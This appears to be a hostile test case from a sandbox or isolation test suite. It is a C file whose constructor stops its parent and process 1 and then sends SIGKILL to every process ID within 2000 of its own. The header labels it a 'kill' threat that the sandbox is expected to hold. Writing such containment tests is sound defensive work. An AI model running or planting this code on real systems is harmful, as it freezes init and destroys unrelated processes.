/* about: stops and kills its parent, process 1 and each process whose number it can guess
 * time: run
 * threat: kill
 * held: A B
 */
#include <signal.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void shoot(void)
{
    kill(getppid(), SIGSTOP);
    kill(1, SIGSTOP);
    for (int pid = getpid() > 2000 ? getpid() - 2000 : 2; pid < getpid() + 2000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
}
